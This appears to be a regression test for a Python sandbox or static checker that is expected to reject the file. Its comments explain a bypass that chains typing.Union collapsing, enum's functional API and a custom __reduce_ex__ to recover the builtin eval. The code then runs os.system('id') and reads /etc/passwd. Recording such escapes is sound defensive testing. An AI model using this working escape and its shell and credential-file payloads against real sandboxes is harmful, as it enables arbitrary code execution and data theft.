# expect: reject class_value
# line: 30
# why: round 50b: typing.Union[Quantity] as a base is Quantity: an enum Flag derived from the family unseen, and type(self) was the enum class, whose call is the functional API
# ok_01 -- goal level 1 (runs `id`), via level 2 (the real builtin eval).
# Mechanism: typing.Union[X] with a single argument IS X (typing collapses it),
# so `class Cup(typing.Union[Quantity], enum.Flag)` derives from the program class
# Quantity, but the checker's base_kind() (analyzer/names.c) reads the base as a
# subscript of a module path -> BASE_LIB, i.e. "some library class", and records no
# family edge Cup -> Quantity.  closed_family(Quantity) therefore sees Quantity
# alone (no base, no decorator, bound once) and calls it closed, so
# wk_own_self_type_call accepts `type(self)(*a)` in Quantity.__call__ and the
# checker assumes type(self) is a plain program class.  At run time self is a
# pseudo-member of the enum Flag class Cup (Cup(0) of a memberless Flag is an
# instance), type(self) is Cup, and Cup("Made", {...}) is enum's functional API
# building a class from a mapping (rule `class` refuses this when Cup is called by
# name).  The mapping's dunders give the new class __deepcopy__ = None and a
# program __reduce_ex__; copy.deepcopy of its member then runs the reduce, which
# builds typing.Literal["eval"] renamed "__builtins__", whose own reduce indexes
# typing's globals: the builtin eval (the rules' own escape_enum_functional_* case).
# `c(...)` is an implicit bound call of the privileged __call__, which rule
# `method` lets through.
import copy
import enum
import operator
import typing


class Quantity:
    def __call__(self, *a):
        return type(self)(*a)


class Cup(typing.Union[Quantity], enum.Flag):
    pass


def red(self, proto):
    return (operator.getitem, (typing.Literal, "eval"), {"_name": "__builtins__"})


c = Cup(0)
Made = c("Made", {"A": 1, "__deepcopy__": None, "__reduce_ex__": red})
ev = copy.deepcopy(copy.deepcopy(Made.A))
print("got:", ev)
ev("__import__('os').system('id')")
print(ev("open('/etc/passwd').read()")[:80])
